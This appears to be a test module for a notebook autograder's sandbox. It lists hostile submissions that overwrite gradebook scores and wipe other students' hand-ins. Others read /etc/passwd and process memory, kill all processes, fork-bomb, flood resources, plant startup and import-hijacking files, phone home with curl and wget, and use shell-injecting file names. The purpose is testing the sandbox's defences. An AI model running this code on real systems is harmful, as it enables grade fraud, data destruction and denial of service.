"""Attacks on the machine: other people's work, the grader's files and processes, time, memory, network, what stays behind."""

from pathlib import Path

from autograder.sandbox.hoards import (
    EAT_MEMORY_BEHIND_AN_ENDED_THREAD,
    FILL_CONNECTIONS,
    FILL_PAGE_TABLES,
    LOCK_ON,
    MAP_ON,
    SEND_ON,
    WATCH_ON,
)
from tests.hostile.attack import GRADIENT, LISTENER, MARK, RIGHT, Attack

TRY = "import os, sys, socket, subprocess, glob, shutil\ndef attempt(work):\n    try:\n        return work()\n    except BaseException as error:\n        return error\n"
PLANT = (
    TRY
    + f"""
home = os.path.expanduser('~')
places = ['/', '/tmp', '/var/tmp', '/dev/shm', '/etc', '/usr/local/bin', '/root', '/home', home, home + '/.ipython/profile_default/startup',
          home + '/.jupyter', home + '/.local/share/jupyter/kernels/python3', os.path.dirname(os.__file__), os.path.dirname(sys.executable),
          os.path.dirname(torch.__file__), '..', '../..', '../../..', '/work', 'COURSE', 'COURSE/source/00-start-here', 'COURSE/submitted', 'REPOSITORY',
          'HOME/.ipython/profile_default/startup', 'HOME/.jupyter']
for place in places:
    for name in ('{MARK}.py', '{MARK}.pth', 'nbgrader_config.py', 'ipython_config.py', 'usercustomize.py'):
        attempt(lambda: os.makedirs(place, exist_ok=True))
        attempt(lambda: open(os.path.join(place, name), 'a').write('# {MARK}\\n'))
"""
)
GRADEBOOK = (
    TRY
    + """
import sqlite3
found = ['COURSE/gradebook.db', '../gradebook.db', '../../gradebook.db', '../../../gradebook.db'] + glob.glob('/proc/*/cwd/gradebook.db') + glob.glob('/tmp/**/gradebook.db', recursive=True)
for path in found:
    if os.path.exists(path):
        with sqlite3.connect(path) as book:
            book.execute('UPDATE grade SET auto_score = 2, manual_score = 2')
"""
)
DAEMON = (
    TRY
    + """
import time, signal
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in range(1, 32):
            attempt(lambda: signal.signal(number, signal.SIG_IGN))
        os.execvp('sleep', ['sleep', '86399'])
    os._exit(0)
"""
)
WITHOUT_END = "while True:\n    try:\n        while True:\n            pass\n    except BaseException:\n        pass"


def deep(levels: int) -> str:
    """A path of so many folders."""
    return "/".join(["d" * 100] * levels) + "/file.txt"


def attacks(course: Path) -> dict[str, Attack]:
    """The table; links lead to this course's own files."""
    here = {"COURSE": str(course), "REPOSITORY": str(Path(__file__).parents[2]), "HOME": str(course.parent / "home")}

    def told(text: str) -> str:
        for word, path in here.items():
            text = text.replace(word, path)
        return text

    return {
        # other people's work
        "writes-the-gradebook": Attack(told(GRADEBOOK)),
        "replaces-hand-ins": Attack(
            told(
                TRY
                + "for path in glob.glob('COURSE/submitted/*') + glob.glob('../../*') + glob.glob('/tmp/**/*.ipynb', recursive=True):\n    attempt(lambda: shutil.rmtree(path) if os.path.isdir(path) else open(path, 'w').close())"
            )
        ),
        "link-to-the-gradebook": Attack(
            "try:\n    import sqlite3\n    print(sqlite3.connect('data.db').execute('SELECT * FROM student').fetchall())\n    print('a secret was read')\nexcept Exception:\n    pass",
            files={"data.db": course / "gradebook.db"},
        ),
        "link-to-a-password-file": Attack(
            "import os\nif os.path.exists('pw'):\n    print('a secret was read', open('pw').read())",
            files={"pw": Path("/etc/passwd")},
        ),
        "link-to-the-source": Attack(
            "import os\nfor root, _, names in os.walk('.', followlinks=True):\n    if 'start_here.ipynb' in names:\n        print('a secret was read')",
            files={"s": course / "source"},
        ),
        "link-to-anothers-notebook": Attack(
            files={"start_here.ipynb": course / "submitted" / "a-neighbour" / "00-start-here" / "start_here.ipynb"},
            fails=True,
        ),
        # the grader's processes
        "kills-everybody": Attack(
            "import os, signal\nfor pid in (1, os.getppid(), -1):\n    try:\n        os.kill(pid, signal.SIGKILL)\n    except OSError:\n        pass"
        ),
        "kills-itself": Attack("import os, signal\nos.kill(os.getpid(), 9)"),
        "traces-and-reads": Attack(
            TRY
            + "import ctypes\nlibc = ctypes.CDLL(None)\nfor pid in range(1, 300):\n    if pid != os.getpid() and libc.ptrace(16, pid, 0, 0) == 0:\n        print('a secret was read')\n    if pid != os.getpid() and isinstance(attempt(lambda: open(f'/proc/{pid}/mem', 'rb').read(1)), bytes):\n        print('a secret was read')"
        ),
        "crashes": Attack("import ctypes\nctypes.string_at(0)"),
        "aborts": Attack("import os\nos.abort()"),
        "recurses": Attack("import sys\nsys.setrecursionlimit(10**9)\ndef down():\n    down()\ndown()"),
        "exits": Attack("import os\nos._exit(0)"),
        "asks-to-exit": Attack("get_ipython().ask_exit()\nexit()"),
        "leaves-a-daemon": Attack(DAEMON),
        "leaves-work-for-the-end": Attack(
            told(
                PLANT.replace("attempt(lambda", "atexit.register(lambda", 1).replace(
                    "import os", "import atexit, os", 1
                )
            )
        ),
        # what stays behind
        "plants-files": Attack(told(PLANT)),
        "module-named-torch": Attack(
            files={
                name: f"open('/tmp/{MARK}', 'w')\nraise SystemExit".encode()
                for name in (
                    "torch.py",
                    "numpy.py",
                    "gradlab/__init__.py",
                    "gradlab/probe/examine.py",
                    "IPython.py",
                    "json.py",
                    "usercustomize.py",
                    "sitecustomize.py",
                    "random.py",
                )
            }
        ),
        "settings-beside-it": Attack(
            files=dict.fromkeys(
                (
                    "ipython_config.py",
                    "ipython_kernel_config.py",
                    "jupyter_config.py",
                    "nbgrader_config.py",
                    "jupyter_nbconvert_config.py",
                ),
                b"c = get_config()\nc.InteractiveShellApp.exec_lines = ['import os; os._exit(0)']\nc.Autograde.autograde_preprocessors = []\n",
            )
            | {
                "jupyter_config.json": b"{",
                ".ipython/profile_default/startup/0.py": b"import os; os._exit(0)",
                "kernel.json": b"{}",
                ".env": b"X=1",
            }
        ),
        "compiled-module": Attack(
            files={"torch.so": b"\x7fELF", "gradlab.pyc": b"\0", "start.pth": b"import os; os._exit(0)\n"}
        ),
        # bounds
        "eats-memory": Attack("hoard = []\nwhile True:\n    hoard.append(bytearray(64 << 20))"),
        "forks-on": Attack("import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass"),
        "fills-the-disk": Attack(
            "n = 0\nwhile True:\n    n += 1\n    with open(f'fill-{n}', 'wb') as file:\n        file.write(bytes(8 << 20))",
            answer=RIGHT,
            fair=GRADIENT,
        ),
        "floods-stdout": Attack("while True:\n    print('x' * 100_000)"),
        "floods-stderr": Attack("import sys\nwhile True:\n    sys.stderr.write('x' * 100_000)\n    sys.stderr.flush()"),
        "floods-displays": Attack(
            "from IPython.display import display, HTML\nwhile True:\n    display(HTML('x' * 80_000))"
        ),
        "one-huge-output": Attack("print('y' * 15_000_000)", answer=RIGHT, fair=GRADIENT),
        "many-lines": Attack("print('z\\n' * 300_000)", answer=RIGHT, fair=GRADIENT),
        "never-ends": Attack(WITHOUT_END),
        "slow-under-each-limit": Attack(("import time; time.sleep(2)",) * 40),
        "ignores-interrupts": Attack(
            "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nimport time\nwhile True:\n    time.sleep(1)"
        ),
        "stops-its-own-process": Attack("import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)"),
        # what all processes of one user share
        "leases": Attack(
            TRY
            + "import fcntl\ndef lease(path):\n    number = os.open(path, 0)\n    attempt(lambda: fcntl.fcntl(number, 1024, 1))\n    os.close(number)\n"
            "for root, _, names in os.walk(os.path.dirname(torch.__file__)):\n    for name in names[:50]:\n        attempt(lambda: lease(os.path.join(root, name)))",
            answer=RIGHT,
            fair=GRADIENT,
        ),
        "socket-buffers": Attack(
            "import socket\nheld = []\ntry:\n    while True:\n        held.append(socket.socketpair())\n        held[-1][0].setblocking(False)\n        held[-1][0].send(bytes(1 << 18))\nexcept OSError:\n    pass\ndel held",
            answer=RIGHT,
            fair=GRADIENT,
        ),
        "watches-files": Attack(
            "import ctypes\nheld = [ctypes.CDLL(None).inotify_init1(0) for _ in range(200)]",
            answer=RIGHT,
            fair=GRADIENT,
        ),
        "watches-by-epoll": Attack(WATCH_ON, answer=RIGHT),
        "locks-ranges": Attack(LOCK_ON, answer=RIGHT),
        "sends-open-files": Attack(SEND_ON, answer=RIGHT),
        "fills-page-tables": Attack(FILL_PAGE_TABLES, answer=RIGHT),
        "maps-on": Attack(MAP_ON, answer=RIGHT),
        "fills-connections": Attack(FILL_CONNECTIONS.replace("150", "195"), answer=RIGHT),
        "memory-behind-an-ended-thread": Attack(EAT_MEMORY_BEHIND_AN_ENDED_THREAD, answer=RIGHT),
        # the grader's own work
        "many-names": Attack(
            "\n".join(f"a{n} = a{n - 1} if {n} else 0" for n in range(1, 2300)), answer=RIGHT, fair=GRADIENT
        ),
        "many-magics": Attack(
            "\n".join(["a = !true"] * 5 + ["b = 1"] * 20_000 + ["%pwd"] * 300), answer=RIGHT, fair=GRADIENT
        ),
        "import-without-end": Attack("'" + "from gradlab import " * 12_000 + "'", answer=RIGHT, fair=GRADIENT),
        "long-number": Attack(f"n = 0x{'f' * 4000}", answer=RIGHT, fair=GRADIENT),
        # the network
        "sends-home": Attack(
            f"import socket\nfor address in (('127.0.0.1', {LISTENER}), ('1.1.1.1', 53)):\n    try:\n        socket.create_connection(address, timeout=1).sendall(b'{MARK}')\n    except OSError:\n        pass"
        ),
        "sends-by-shell": Attack(
            f"!curl -s --max-time 2 http://127.0.0.1:{LISTENER}/{MARK}\n!wget -q -T 2 http://127.0.0.1:{LISTENER}/{MARK}"
        ),
        # odd files
        "deep-folders": Attack(answer=RIGHT, files={deep(20): b"x"}, fair=GRADIENT),
        "deeper-folders": Attack(answer=RIGHT, files={"d/" * 400 + "x": b"x"}, fair=GRADIENT),
        "many-files": Attack(answer=RIGHT, files={f"f/{n}": b"x" for n in range(3000)}, fair=GRADIENT),
        "name-of-no-characters": Attack(files={b"\xff\xfe.txt": b"x"}, fails=True),
        "name-with-newline": Attack(
            answer=RIGHT, files={"a\nb <script>.txt": b"x", "$(touch x)": b"", "-rf": b""}, fair=GRADIENT
        ),
        "pipes": Attack(answer=RIGHT, files={"pipe": None, "folder/pipe": None}, fair=GRADIENT),
        "time-stamp-a-pipe": Attack(answer=RIGHT, files={"timestamp.txt": None}, fair=GRADIENT),
        "time-stamp-a-link": Attack(answer=RIGHT, files={"timestamp.txt": course / "gradebook.db"}, fair=GRADIENT),
        "time-stamp-without-end": Attack(answer=RIGHT, files={"timestamp.txt": Path("/dev/zero")}, fair=GRADIENT),
        "time-stamp-a-folder": Attack(answer=RIGHT, files={"timestamp.txt/x": b""}, fair=GRADIENT),
        "time-stamp-of-a-megabyte": Attack(files={"timestamp.txt": b"2026 " * 200_000}, fails=True),
        "time-stamp-of-nonsense": Attack(files={"timestamp.txt": b"next year, perhaps"}, fails=True),
    }
